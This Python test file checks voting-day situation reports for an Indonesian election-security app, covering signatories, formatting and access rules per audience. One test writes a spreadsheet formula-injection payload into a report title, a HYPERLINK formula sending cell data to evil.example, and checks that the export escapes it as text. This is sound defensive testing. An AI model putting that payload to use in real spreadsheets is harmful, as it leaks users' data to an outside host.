"""The lapsit of a voting day (issue 13): every section filled from the day's data, signed by the configured
leadership, no raw codes, Indonesian numbers; and built from protected reports, archived per audience (issue 14
item 1): a Koramil without reports.view never gets the neutrality reports, a Polsek never a report about its own
unit."""

from __future__ import annotations

import datetime
import io
import zoneinfo
from typing import Any

import pytest
import time_machine
from django.test import Client, override_settings

from praja.situation import votingday
from praja.situation.models import Lapsit
from praja.situation.tests.conftest import World, client_for, person
from praja.situation.tests.test_voting_day import election
from tests.pdfs import words

WIB = zoneinfo.ZoneInfo("Asia/Jakarta")
VOTE = datetime.date(2024, 11, 27)
EVENING = datetime.datetime(2024, 11, 27, 20, 0, tzinfo=WIB)


@pytest.fixture
def filled(world: World) -> votingday.Summary:
    from praja.accounts.models import Agency

    election()
    Agency.objects.create(slug="koramil-donomulyo", kind="koramil", name="Koramil Donomulyo", region_id="35.07.01")
    with time_machine.travel(EVENING, tick=False):
        return votingday.fill(VOTE, "35.07", surge="35.07.01", reports=60, surge_reports=15, seed=3)




def sheet_text(content: bytes, name: str) -> str:
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(content))
    return "\n".join(" ".join(str(c.value) for c in row if c.value is not None) for row in wb[name].iter_rows())


def test_the_generator_fills_a_voting_day_with_posts_and_a_surge(filled: votingday.Summary) -> None:
    from praja.deployment.models import Post
    from praja.reports.models import Report

    assert filled.reports == Report.objects.count() >= 70
    assert filled.surge == "35.07.01" and filled.surge_reports >= 15
    assert filled.posts == Post.objects.count() == 3  # one post per desa with TPS (no plan existed)
    reported = Post.objects.filter(manned_at__isnull=False).count()
    assert reported == filled.manned + filled.understrength
    hours = {r.received_at.astimezone(WIB).hour for r in Report.objects.filter(region__code__startswith="35.07.01")}
    assert 10 in hours


def test_the_voting_day_lapsit_lists_the_days_reports_and_posts_signed_by_the_leadership(
        filled: votingday.Summary, world: World, polres_ops: Client) -> None:
    with override_settings(PRAJA_SITUATION={
            "LAPSIT_SIGNATORY": {"35.07": {"name": "Putu Kholis Aryana", "rank": "AKBP",
                                           "position": "Kapolres Malang"}}}), \
            time_machine.travel(EVENING + datetime.timedelta(days=1), tick=False):
        r = polres_ops.post("/situasi/lapsit/terbitkan/", {"wilayah": "35.07", "tanggal": "2024-11-27",
                                                           "catatan": "Situasi terkendali."})
        assert r.status_code == 302
        lap = Lapsit.objects.get(audience="pimpinan")
        assert (lap.signed_name, lap.signed_rank, lap.signed_position) == ("Putu Kholis Aryana", "AKBP",
                                                                          "Kapolres Malang")
        text = words(bytes(lap.pdf))
        section = text.split("III.")[1].split("Kasus terbuka")[0]
        assert "Nihil" not in section, section[:400]  # the day's reports are listed
        assert "Kericuhan" in text or "Kerumunan" in text or "amplop" in text
        assert f"{filled.reports}" in text  # reports received in the period
        assert "Putu Kholis Aryana" in text and "Kapolres Malang" in text
        assert "Pimpinan · Iptu" not in text and "Disusun oleh" in text
        assert "Pos terisi" in text or "Terisi" in text
        for raw in ("bawaslu_review", "administrative", "web_petugas", "sangat_rawan", "−0,0", "-0,0"):
            assert raw not in text, raw
        assert "4042" not in text  # (the small world has 6 TPS; numbers go through the one helper)


def test_a_koramil_without_reports_view_never_gets_the_neutrality_reports(filled: votingday.Summary, world: World,
                                                                          polres_ops: Client) -> None:
    from praja.accounts.models import Agency
    from praja.reports.models import Report

    koramil_agency = Agency.objects.get(slug="koramil-donomulyo")
    with time_machine.travel(EVENING + datetime.timedelta(hours=1), tick=False):
        # The probe's three reports: about a Polsek officer, naming the Polsek, about the Koramil itself.
        neutral = list(Report.objects.filter(region__code__startswith="35.07.01").order_by("pk")[:3])
        Report.objects.filter(pk=neutral[0].pk).update(subject_kind="polri", title="Oknum anggota Polsek")
        Report.objects.filter(pk=neutral[1].pk).update(subject_kind="polri", title="Polsek Donomulyo dilaporkan",
                                                       subject_unit=world.agencies["polsek-donomulyo"])
        Report.objects.filter(pk=neutral[2].pk).update(subject_kind="tni", title="Koramil dilaporkan",
                                                       subject_unit=koramil_agency)
        polres_ops.post("/situasi/lapsit/terbitkan/", {"wilayah": "35.07.01", "tanggal": "2024-11-27"})
        lead = Lapsit.objects.get(audience="pimpinan")
        general = Lapsit.objects.get(audience="umum")
        assert "Polsek Donomulyo dilaporkan" in sheet_text(bytes(lead.xlsx), "Kejadian")
        koramil = client_for(person("koramil", koramil_agency, [("koramil_staff", "35.07.01")]))
        for kind in ("pdf", "xlsx"):
            assert koramil.get(f"/situasi/lapsit/{lead.pk}/{kind}/").status_code == 404
        assert koramil.get(f"/situasi/lapsit/{lead.pk}/").status_code == 404
        got = koramil.get(f"/situasi/lapsit/{general.pk}/xlsx/")
        assert got.status_code == 200
        kejadian = sheet_text(got.content, "Kejadian")
        for title in ("Oknum anggota Polsek", "Polsek Donomulyo dilaporkan", "Koramil dilaporkan"):
            assert title not in kejadian
            assert title not in words(koramil.get(f"/situasi/lapsit/{general.pk}/pdf/").content)
        listing = koramil.get("/situasi/lapsit/?wilayah=35.07.01").content.decode()
        assert f"/situasi/lapsit/{general.pk}/" in listing and f"/situasi/lapsit/{lead.pk}/" not in listing


def test_a_polsek_never_gets_a_report_about_its_own_unit_and_may_have_a_version_built_for_it(
        filled: votingday.Summary, world: World, polres_ops: Client, polsek: Client) -> None:
    from praja.reports.models import Report

    with time_machine.travel(EVENING + datetime.timedelta(hours=1), tick=False):
        about = Report.objects.filter(region__code__startswith="35.07.01").order_by("pk").first()
        assert about is not None
        Report.objects.filter(pk=about.pk).update(subject_kind="polri", title="Laporan tentang Polsek sendiri",
                                                  subject_unit=world.agencies["polsek-donomulyo"])
        polres_ops.post("/situasi/lapsit/terbitkan/", {"wilayah": "35.07.01", "tanggal": "2024-11-27"})
        lead = Lapsit.objects.get(audience="pimpinan")
        assert about.pk in lead.report_ids
        for kind in ("pdf", "xlsx"):
            assert polsek.get(f"/situasi/lapsit/{lead.pk}/{kind}/").status_code == 404
        listing = polsek.get("/situasi/lapsit/?wilayah=35.07.01").content.decode()
        assert 'id="unit-versions"' in listing
        r = polsek.post(f"/situasi/lapsit/{lead.pk}/satuan/")
        assert r.status_code == 302
        mine = Lapsit.objects.get(audience="satuan:polsek-donomulyo")
        assert about.pk not in mine.report_ids and mine.number == lead.number
        assert mine.pdf_sha256 != lead.pdf_sha256
        xlsx = polsek.get(f"/situasi/lapsit/{mine.pk}/xlsx/")
        assert xlsx.status_code == 200 and "Laporan tentang Polsek sendiri" not in sheet_text(xlsx.content,
                                                                                                "Kejadian")
        assert "Laporan tentang Polsek sendiri" not in words(polsek.get(f"/situasi/lapsit/{mine.pk}/pdf/").content)
        # The unit's version is the unit's: the leadership's readers do not get it in their list by accident, and
        # a Koramil never.
        from praja.accounts.models import Agency

        koramil = client_for(person("koramil2", Agency.objects.get(slug="koramil-donomulyo"),
                                    [("koramil_staff", "35.07.01")]))
        assert koramil.get(f"/situasi/lapsit/{mine.pk}/pdf/").status_code == 404


def test_a_title_that_looks_like_a_formula_stays_text_in_the_xlsx(filled: votingday.Summary,
                                                                 polres_ops: Client) -> None:
    from openpyxl import load_workbook

    from praja.reports.models import Report

    with time_machine.travel(EVENING + datetime.timedelta(hours=1), tick=False):
        r = Report.objects.filter(region__code__startswith="35.07.01").order_by("received_at").first()
        assert r is not None
        Report.objects.filter(pk=r.pk).update(title='=HYPERLINK("http://evil.example/?d="&A3,"Lihat")')
        polres_ops.post("/situasi/lapsit/terbitkan/", {"wilayah": "35.07.01", "tanggal": "2024-11-27"})
        lap = Lapsit.objects.get(audience="pimpinan")
        wb = load_workbook(io.BytesIO(bytes(lap.xlsx)))
        cells = [c for row in wb["Kejadian"].iter_rows() for c in row if c.value and "HYPERLINK" in str(c.value)]
        assert cells and all(c.data_type == "s" and str(c.value).startswith("'=") for c in cells)


def test_the_lapsit_prints_the_audit_head_when_the_audit_offers_it(filled: votingday.Summary,
                                                                    polres_ops: Client,
                                                                    monkeypatch: Any) -> None:
    from praja.base import audit

    monkeypatch.setattr(audit, "current_head", lambda: "ab12cd34" * 8, raising=False)
    with time_machine.travel(EVENING + datetime.timedelta(hours=1), tick=False):
        polres_ops.post("/situasi/lapsit/terbitkan/", {"wilayah": "35.07.01", "tanggal": "2024-11-27"})
        lap = Lapsit.objects.get(audience="pimpinan")
        assert lap.audit_head == "ab12cd34" * 8
        assert "ab12cd34" in words(bytes(lap.pdf))
